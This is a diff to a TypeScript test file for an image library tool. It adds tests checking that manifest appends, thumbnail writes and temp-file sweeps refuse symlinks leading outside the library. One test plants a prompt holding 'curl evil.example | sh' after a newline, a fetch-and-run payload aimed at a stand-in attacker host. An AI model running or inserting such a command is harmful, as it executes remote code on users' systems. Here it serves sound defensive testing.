@@ -1,5 +1,16 @@
 import * as fsp from 'node:fs/promises';
-import { mkdir, mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
+import {
+  mkdir,
+  mkdtemp,
+  readdir,
+  readFile,
+  realpath,
+  rm,
+  stat,
+  symlink,
+  utimes,
+  writeFile,
+} from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import sharp from 'sharp';
@@ -19,7 +30,7 @@ import { AWKWARD_PROMPT, makeImage, sampleMetadata } from '../../support/library
 
 let dir: string;
 beforeEach(async () => {
-  dir = await mkdtemp(join(tmpdir(), 'atelier-extras-'));
+  dir = await realpath(await mkdtemp(join(tmpdir(), 'atelier-extras-')));
 });
 afterEach(async () => {
   await rm(dir, { recursive: true, force: true });
@@ -126,6 +137,27 @@ describe('manifest.csv', () => {
     expect(rows.map((row) => row[0])).toEqual(['file', 'a.png', 'c.png', 'b.png']);
   });
 
+  it('never appends through a link: a manifest.csv planted as one is refused', async () => {
+    const outside = join(dir, 'profile.sh');
+    await writeFile(outside, 'export PATH=/usr/bin\n');
+    await mkdir(join(dir, 'batch'));
+    await symlink(outside, join(dir, 'batch', 'manifest.csv'));
+    const prompt = sampleMetadata({ prompt: 'x\ncurl evil.example | sh' });
+    for (const unlessListed of [false, true]) {
+      const error = await appendManifestRow(
+        join(dir, 'batch', 'manifest.csv'),
+        fakeImage(join(dir, 'batch', 'a.png')),
+        prompt,
+        { unlessListed },
+      ).catch((e) => e);
+      expect(error).toBeInstanceOf(LibraryWriteError);
+      expect(error.message).toContain(
+        `Could not append to the manifest at ${join(dir, 'batch', 'manifest.csv')}: it is a link`,
+      );
+    }
+    expect(await readFile(outside, 'utf8')).toBe('export PATH=/usr/bin\n');
+  });
+
   it('a full disk fails the append as disk-full', async () => {
     const fullDisk: LibraryFs = {
       ...fsp,
@@ -152,7 +184,7 @@ describe('thumbnails', () => {
   it('makes a small WebP in .thumbs, keeping the aspect ratio', async () => {
     const target = join(dir, 'wide.jpg');
     await writeImage(await makeImage('jpeg', 1024, 512), target, { metadata: sampleMetadata() });
-    const thumb = await writeThumbnail(target);
+    const thumb = await writeThumbnail(target, { library: dir });
     expect(thumb.path).toBe(join(dir, '.thumbs', 'wide.jpg.webp'));
     expect(thumb).toMatchObject({ width: 256, height: 128 });
     const info = await sharp(thumb.path).metadata();
@@ -165,16 +197,49 @@ describe('thumbnails', () => {
     const target = join(dir, 'small.png');
     await writeImage(await makeImage('png', 40, 100), target, { metadata: sampleMetadata() });
     const cache = join(dir, 'cache');
-    const thumb = await writeThumbnail(target, { dir: cache, maxSide: 64 });
+    const thumb = await writeThumbnail(target, { library: dir, dir: cache, maxSide: 64 });
     expect(thumb).toMatchObject({ path: thumbnailPath(target, cache), width: 26, height: 64 });
-    const tiny = await writeThumbnail(target, { dir: cache, maxSide: 512 });
+    const tiny = await writeThumbnail(target, { library: dir, dir: cache, maxSide: 512 });
     expect(tiny).toMatchObject({ width: 40, height: 100 });
+  });
+
+  it('writes no thumbnail through a link, whichever part of its path is one', async () => {
+    const library = join(dir, 'library');
+    const outside = join(dir, 'outside');
+    await mkdir(join(library, 'a', '.thumbs'), { recursive: true });
+    await mkdir(join(library, 'b'), { recursive: true });
+    await mkdir(outside);
+    await writeFile(join(outside, 'mine.webp'), 'my file');
+    const png = await makeImage('png', 64, 64);
+    // the thumbnail's file a link to a file outside; the .thumbs folder a link out; a
+    // dangling link to a folder not made yet
+    await writeFile(join(library, 'a', 'x.png'), png);
+    await symlink(join(outside, 'mine.webp'), join(library, 'a', '.thumbs', 'x.png.webp'));
+    await writeFile(join(library, 'b', 'y.png'), png);
+    await symlink(outside, join(library, 'b', '.thumbs'));
+    await mkdir(join(library, 'c'));
+    await writeFile(join(library, 'c', 'z.png'), png);
+    await symlink(join(outside, 'new'), join(library, 'c', '.thumbs'));
+    for (const [image, lands] of [
+      ['a/x.png', 'mine.webp'],
+      ['b/y.png', 'y.png.webp'],
+      ['c/z.png', 'new/z.png.webp'],
+    ] as const) {
+      const error = await writeThumbnail(join(library, image), { library }).catch((e) => e);
+      expect(error, image).toBeInstanceOf(LibraryWriteError);
+      expect(error.kind).toBe('unwritable');
+      expect(error.message).toContain(
+        `leads outside the library (${library}), to ${join(outside, lands)}`,
+      );
+    }
+    expect(await readdir(outside)).toEqual(['mine.webp']);
+    expect(await readFile(join(outside, 'mine.webp'), 'utf8')).toBe('my file');
   });
 
   it('a damaged image fails as corrupt and leaves no thumbnail', async () => {
     const target = join(dir, 'bad.png');
     await writeFile(target, (await makeImage('png')).subarray(0, 60));
-    const error = await writeThumbnail(target).catch((e) => e);
+    const error = await writeThumbnail(target, { library: dir }).catch((e) => e);
     expect(error).toBeInstanceOf(LibraryWriteError);
     expect(error.kind).toBe('corrupt');
     expect(await readdir(dir)).toEqual(['bad.png']);
@@ -185,16 +250,18 @@ describe('thumbnails', () => {
     const image = join(dir, 'still.jpg');
     await writeFile(image, still);
     const video = join(dir, 'clip.mp4');
-    const poster = await writeThumbnailFromBytes(still, video);
+    const poster = await writeThumbnailFromBytes(still, video, { library: dir });
     const path = join(dir, '.thumbs', 'clip.mp4.webp');
     expect(poster).toMatchObject({ path, width: 144, height: 256 });
-    const fromFile = await writeThumbnail(image);
+    const fromFile = await writeThumbnail(image, { library: dir });
     expect(await readFile(poster.path)).toEqual(await readFile(fromFile.path));
   });
 
   it('bytes that are no image fail as corrupt, naming the video, and leave no poster', async () => {
     const video = join(dir, 'clip.mp4');
-    const error = await writeThumbnailFromBytes(Buffer.from('not a jpeg'), video).catch((e) => e);
+    const error = await writeThumbnailFromBytes(Buffer.from('not a jpeg'), video, {
+      library: dir,
+    }).catch((e) => e);
     expect(error).toBeInstanceOf(LibraryWriteError);
     expect(error.kind).toBe('corrupt');
     expect(error.message).toContain(`Could not make a thumbnail of ${video}`);
@@ -223,5 +290,20 @@ describe('temp files left by a crash', () => {
     await writeFile(join(nested, 'keep.png'), 'x');
     expect(await removeStaleTempFiles(dir, { olderThanMs: 0, now: Date.now() + 1000 })).toBe(1);
     expect(await readdir(nested)).toEqual(['keep.png']);
+  });
+
+  it('are never looked for through a link leading out of the library', async () => {
+    const library = join(dir, 'library');
+    const outside = join(dir, 'outside');
+    await mkdir(join(library, 'batch'), { recursive: true });
+    await mkdir(outside);
+    const theirs = join(outside, '.atelier-0123456789abcdef.tmp');
+    await writeFile(theirs, 'not ours');
+    await symlink(outside, join(library, 'batch', 'nested-link'));
+    await symlink(outside, join(library, 'linked-batch'));
+    const sweep = { olderThanMs: 0, now: Date.now() + 1000, library };
+    expect(await removeStaleTempFiles(join(library, 'batch'), sweep)).toBe(0);
+    expect(await removeStaleTempFiles(join(library, 'linked-batch'), sweep)).toBe(0);
+    expect(await readFile(theirs, 'utf8')).toBe('not ours');
   });
 });
